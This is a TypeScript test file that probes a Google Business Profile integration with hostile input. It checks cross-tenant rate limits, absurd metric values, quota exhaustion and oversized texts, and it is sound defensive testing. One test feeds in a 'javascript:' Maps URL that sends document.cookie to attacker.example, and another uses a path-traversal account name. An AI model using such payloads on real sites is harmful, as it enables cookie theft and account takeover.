import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { CitationScan } from '../../shared/contract/citations';
import type { GoogleBusinessStatus, GoogleLink, GoogleLocationView, GoogleUpdatePreview } from '../../shared/contract/google-business';
import type { Analytics } from '../../shared/contract/provider';
import { createGoogleBusinessSource } from '../citations/sources/google-business-source';
import { gatherCitations } from '../citations/sources/gather-citations';
import type * as NameNormalizer from '../citations/name-normalizer';
import { GOOGLE_TEXT_MAX, type GoogleLocation } from '../google-business/location-fields';
import { createGoogleBusinessService } from '../services/integrations/google-business-service';
import { providerCallsPerHour } from '../services/integrations/provider-quota';
import { createRateLimiter } from '../services/infrastructure/rate-limiter';
import { fixedSettingsKey } from '../settings/settings-key';
import { registerTestAccount, type TestAccount } from '../testing/accounts';
import { createTestBusiness } from '../testing/businesses';
import { startGoogleBusinessStandIn, type GoogleBusinessStandIn } from '../testing/google-business-protocol-server';
import { googleStandInEnv, PRAIRIE_DENTAL, PRAIRIE_STREET, prairieDentalLocation } from '../testing/google-test-business';
import { DIALECTS } from '../testing/test-databases';
import { startTestServer, type TestServer } from '../testing/test-server';

// Google Business Profile as an attacker or a hostile Google would use it: two organizations sharing a
// location, answers no real Google sends, and a connection that cannot be used while a scan reads it.

type Body<T> = T & { message?: string; code?: string };

// Counts how often business names are normalized, to tell work per business and location from work per pair.
const normalized = vi.hoisted(() => ({ names: 0 }));
vi.mock('../citations/name-normalizer', async (importOriginal) => {
  const actual = await importOriginal<typeof NameNormalizer>();
  return {
    ...actual,
    normalizeBusinessName: (...args: Parameters<typeof actual.normalizeBusinessName>) => {
      normalized.names += 1;
      return actual.normalizeBusinessName(...args);
    },
  };
});

const ACCOUNT = { name: 'accounts/2001', accountName: 'Prairie Dental Group' };
const HOUR_MS = 3_600_000;
const DAY_MS = 86_400_000;

/** The organization's outside calls for the hour, all spent. */
async function spendQuota(server: TestServer, organizationId: string, now: Date): Promise<void> {
  const { repositories } = server.database;
  const organization = await repositories.organizations.findById(organizationId);
  const limit = providerCallsPerHour(organization?.maxBusinesses ?? 0);
  const key = `provider-org:${organizationId.toLowerCase()}`;
  for (let call = 0; call <= limit; call += 1) await repositories.rateLimits.hit(key, HOUR_MS, now);
}

describe.each(DIALECTS)('Google Business Profile under attack on %s', (dialect) => {
  let server: TestServer;
  let google: GoogleBusinessStandIn;
  let now = new Date('2026-11-20T12:00:00Z');
  const env: Record<string, string | undefined> = {};
  let nextLocation = 7000;

  beforeAll(async () => {
    google = await startGoogleBusinessStandIn({ clock: () => now });
    google.addAccount(ACCOUNT);
    Object.assign(env, googleStandInEnv(google));
    server = await startTestServer(dialect, {
      env,
      clock: () => now,
      settingsKey: fixedSettingsKey(randomBytes(32)),
      googleBusiness: { sleep: async () => {} },
    });
  });
  afterAll(async () => {
    await server?.close();
    await google?.close();
  });

  const call = <T>(account: TestAccount, method: string, path: string, body?: unknown) =>
    server.request<Body<T>>(method, path, { token: account.token, body });

  async function connected(overrides: Partial<GoogleLocation> = {}) {
    const owner = await registerTestAccount(server, { role: 'business_pro' });
    const started = await call<{ authorizationUrl: string; pending: string }>(owner, 'POST', '/api/google-business/authorization');
    const back = new URL((await fetch(started.body.authorizationUrl, { redirect: 'manual' })).headers.get('location')!);
    const answer = { code: back.searchParams.get('code'), state: back.searchParams.get('state'), pending: started.body.pending };
    const done = await call<{ status: GoogleBusinessStatus }>(owner, 'POST', '/api/google-business/connection', answer);
    expect(done.status, done.text).toBe(200);
    const business = await createTestBusiness(server, owner.token, PRAIRIE_DENTAL);
    const location = prairieDentalLocation(String(++nextLocation), overrides);
    google.addLocation(ACCOUNT.name, location);
    return { owner, business, location };
  }

  const linkTo = (owner: TestAccount, businessId: string, locationName: string) =>
    call<{ link: GoogleLink }>(owner, 'PUT', `/api/businesses/${businessId}/google-location`, { accountName: ACCOUNT.name, locationName });

  async function linked(overrides: Partial<GoogleLocation> = {}) {
    const setup = await connected(overrides);
    const link = await linkTo(setup.owner, setup.business.id, setup.location.name);
    expect(link.status, link.text).toBe(200);
    return { ...setup, link: link.body.link };
  }

  it('keeps Google’s 10 edits a minute of a location that two organizations link', async () => {
    const first = await linked();
    // Another tenant whose Google account manages the same location links it too.
    const second = await connected();
    expect((await linkTo(second.owner, second.business.id, first.location.name)).status).toBe(200);

    for (let edit = 1; edit <= 10; edit += 1) {
      const renamed = { ...PRAIRIE_DENTAL, name: `${PRAIRIE_DENTAL.name} ${edit}` };
      await server.request('PUT', `/api/businesses/${first.business.id}`, { token: first.owner.token, body: renamed });
      const done = await call(first.owner, 'POST', `/api/businesses/${first.business.id}/google-update`, { fields: ['name'] });
      expect(done.status, done.text).toBe(200);
    }
    const eleventh = await call(second.owner, 'POST', `/api/businesses/${second.business.id}/google-update`, { fields: ['name'] });
    expect(eleventh.status, eleventh.text).toBe(429);
    const patches = google.calls.filter((recorded) => recorded.method === 'PATCH' && recorded.path === `/v1/${first.location.name}`);
    expect(patches.filter((recorded) => recorded.query.validateOnly === 'false')).toHaveLength(10);
    expect(google.edits(first.location.name)).toHaveLength(10);
    now = new Date(now.getTime() + 61_000);
  });

  it('keeps only whole, non-negative daily figures, whatever Google sends', async () => {
    const { owner, business, location } = await linked();
    const days = Array.from({ length: 14 }, (_, index) => new Date(now.getTime() - (index + 1) * DAY_MS).toISOString().slice(0, 10));
    google.setDailyFigures(
      location.name,
      days.map((date) => ({
        date,
        desktopMaps: -7,
        desktopSearch: 1.5,
        mobileMaps: 3_000_000_000,
        mobileSearch: 2 ** 60,
        websiteClicks: 4,
        callClicks: -1,
        directionRequests: 1e21,
      })),
    );
    const answered = await call<{ analytics: Analytics }>(owner, 'GET', `/api/data-axle/businesses/${business.id}/analytics?period=weekly`);
    expect(answered.status, answered.text).toBe(200);
    const { analytics } = answered.body;
    expect(analytics.series).toHaveLength(7);
    expect(analytics.totals).toEqual({ views: 0, searches: 0, clicks: 28, calls: 0, directionRequests: 0 });
    expect(analytics.impressions).toEqual({ desktopMaps: 0, desktopSearch: 0, mobileMaps: 0, mobileSearch: 0 });
    const { googleDailyMetrics } = server.database.repositories;
    const kept = await googleDailyMetrics.range(owner.organizationId, business.id, location.name, days.at(-1)!, days[0]!);
    expect(kept.length).toBeGreaterThan(0);
    for (const day of kept) {
      const { desktopMaps, desktopSearch, mobileMaps, mobileSearch, websiteClicks, callClicks, directionRequests } = day;
      for (const value of [desktopMaps, desktopSearch, mobileMaps, mobileSearch, websiteClicks, callClicks, directionRequests]) {
        expect(Number.isSafeInteger(value) && value >= 0).toBe(true);
      }
    }
  });

  it('spends an outside call of the organization when a scan reads its linked location', async () => {
    const { owner, business, location } = await linked();
    await spendQuota(server, owner.organizationId, now);
    const reads = () => google.calls.filter((recorded) => recorded.method === 'GET' && recorded.path === `/v1/${location.name}`).length;
    const before = reads();
    const scanned = await call<{ scan: CitationScan }>(owner, 'POST', `/api/businesses/${business.id}/scan-citations`);
    // The scan stands; Google is not asked, and the scan says why.
    expect(scanned.status, scanned.text).toBe(200);
    expect(reads()).toBe(before);
    const failure = { source: 'google_business_profile', message: expect.stringMatching(/calls an hour/) };
    expect(scanned.body.scan.sourceFailures).toEqual([failure]);
  });

  it('keeps a Maps address only when it is a web address, and bounds the texts Google sends', async () => {
    const huge = 'Prairie Smiles '.repeat(70_000);
    const { owner, business, location, link } = await linked({
      title: huge,
      storefrontAddress: { ...PRAIRIE_STREET, addressLines: [huge, huge] },
      metadata: { mapsUri: 'javascript:fetch("https://attacker.example/?"+document.cookie)', placeId: 'place-hostile' },
    });
    expect(link.mapsUrl).toBeNull();
    expect(link.title.length).toBeLessThanOrEqual(GOOGLE_TEXT_MAX);
    expect(link.address.length).toBeLessThanOrEqual(3 * GOOGLE_TEXT_MAX);

    const listed = await call<{ locations: GoogleLocationView[] }>(owner, 'GET', '/api/google-business/locations');
    expect(listed.status, listed.text).toBe(200);
    const view = listed.body.locations.find((candidate) => candidate.name === location.name)!;
    expect(view.mapsUrl).toBeNull();
    expect(listed.text).not.toContain('javascript:');
    expect(listed.text.length).toBeLessThan(200_000);

    const scanned = await call<{ scan: CitationScan }>(owner, 'POST', `/api/businesses/${business.id}/scan-citations`);
    expect(scanned.status, scanned.text).toBe(200);
    expect(scanned.text).not.toContain('javascript:');
    expect(scanned.text.length).toBeLessThan(200_000);

    const preview = await call<{ preview: GoogleUpdatePreview }>(owner, 'GET', `/api/businesses/${business.id}/google-update`);
    expect(preview.status, preview.text).toBe(200);
    expect(preview.text.length).toBeLessThan(200_000);
  });

  it('reports a linked location read after a disconnect as Google’s failure, not a fault that stops the scan', async () => {
    const { owner, business, location } = await linked();
    const { repositories } = server.database;
    const service = createGoogleBusinessService({
      repositories,
      settings: { value: async () => undefined },
      env,
      keys: fixedSettingsKey(randomBytes(32)),
      publicUrl: server.baseUrl,
      desktop: false,
      environment: async () => 'production',
      rateLimiter: createRateLimiter(repositories.rateLimits, () => now),
      quota: async () => {},
      clock: () => now,
      client: { sleep: async () => {} },
    });
    const found = await service.linked(owner.organizationId, business.id);
    expect(found?.link.locationName).toBe(location.name);
    // The organization disconnects while its scan is under way.
    await repositories.googleConnections.delete(owner.organizationId);
    const gathered = await gatherCitations([createGoogleBusinessSource(found!.client, found!.link)], {} as never, [], []);
    const failure = { source: 'google_business_profile', message: 'Connect Google Business Profile first.' };
    expect(gathered).toEqual({ citations: [], failures: [failure] });
  });

  it('suggests links with work per business and per location, not per pair (thousands of locations stall the server)', async () => {
    const { owner } = await connected();
    for (let branch = 1; branch <= 4; branch += 1) {
      const name = `Prairie Smiles Branch ${branch}`;
      await createTestBusiness(server, owner.token, { ...PRAIRIE_DENTAL, name, phone: `(217) 555-01${50 + branch}` });
      google.addLocation(ACCOUNT.name, prairieDentalLocation(String(++nextLocation), { title: name }));
    }
    normalized.names = 0;
    const listed = await call<{ locations: GoogleLocationView[]; rows: unknown[] }>(owner, 'GET', '/api/google-business/locations');
    expect(listed.status, listed.text).toBe(200);
    const [businesses, locations] = [listed.body.rows.length, listed.body.locations.length];
    expect(businesses * locations).toBeGreaterThan(2 * (businesses + locations));
    expect(normalized.names).toBeLessThanOrEqual(businesses + locations);
  });

  // Last: the odd account stays in the stand-in's list.
  it('lists the locations of Google’s accounts when Google names one in another form', async () => {
    const { owner, location } = await connected();
    google.addAccount({ name: 'accounts/2002/../../v1/accounts', accountName: 'Odd' });
    const listed = await call<{ locations: GoogleLocationView[] }>(owner, 'GET', '/api/google-business/locations');
    expect(listed.status, listed.text).toBe(200);
    expect(listed.body.locations.map((candidate) => candidate.name)).toContain(location.name);
    expect(listed.body.locations.every((candidate) => candidate.accountName === ACCOUNT.name)).toBe(true);
  });
});

describe.each(DIALECTS)('Google Business Profile without a settings key on %s', (dialect) => {
  let server: TestServer;
  let google: GoogleBusinessStandIn;
  const now = new Date('2026-11-20T12:00:00Z');

  beforeAll(async () => {
    google = await startGoogleBusinessStandIn({ clock: () => now });
    google.addAccount(ACCOUNT);
    // No settingsKey: the server cannot decrypt the refresh token it holds.
    server = await startTestServer(dialect, { env: googleStandInEnv(google), clock: () => now, googleBusiness: { sleep: async () => {} } });
  });
  afterAll(async () => {
    await server?.close();
    await google?.close();
  });

  it('scans a linked business with Google as a failed source, and answers 503 where Google is asked for', async () => {
    const owner = await registerTestAccount(server, { role: 'business_pro' });
    const business = await createTestBusiness(server, owner.token, PRAIRIE_DENTAL);
    const location = prairieDentalLocation('9001');
    google.addLocation(ACCOUNT.name, location);
    const { repositories } = server.database;
    await repositories.googleConnections.save({
      organizationId: owner.organizationId,
      refreshToken: `v1:${randomBytes(12).toString('base64url')}:${randomBytes(40).toString('base64url')}`,
      scopes: 'https://www.googleapis.com/auth/business.manage',
      connectedByUserId: owner.userId,
      connectedAt: now,
      needsReconnect: false,
    });
    await repositories.googleLocationLinks.save({
      organizationId: owner.organizationId,
      businessId: business.id,
      accountName: ACCOUNT.name,
      locationName: location.name,
      title: 'Prairie Smiles Family Dentistry',
      address: '410 Green St, Champaign, IL 61820',
      mapsUrl: null,
      linkedByUserId: owner.userId,
      linkedAt: now,
    });
    const request = <T>(method: string, path: string) => server.request<Body<T>>(method, path, { token: owner.token });

    const scanned = await request<{ scan: CitationScan }>('POST', `/api/businesses/${business.id}/scan-citations`);
    expect(scanned.status, scanned.text).toBe(200);
    const failure = { source: 'google_business_profile', message: expect.stringMatching(/settings encryption key/i) };
    expect(scanned.body.scan.sourceFailures).toEqual([failure]);

    const askingGoogle = [
      `/api/businesses/${business.id}/google-update`,
      `/api/data-axle/businesses/${business.id}/analytics?period=weekly`,
    ];
    for (const path of askingGoogle) {
      const answered = await request('GET', path);
      expect(answered.status, `${path}: ${answered.text}`).toBe(503);
    }
    // Nothing reached Google: the token could not be read.
    expect(google.calls.filter((recorded) => recorded.path !== '/o/oauth2/v2/auth')).toEqual([]);
  });
});
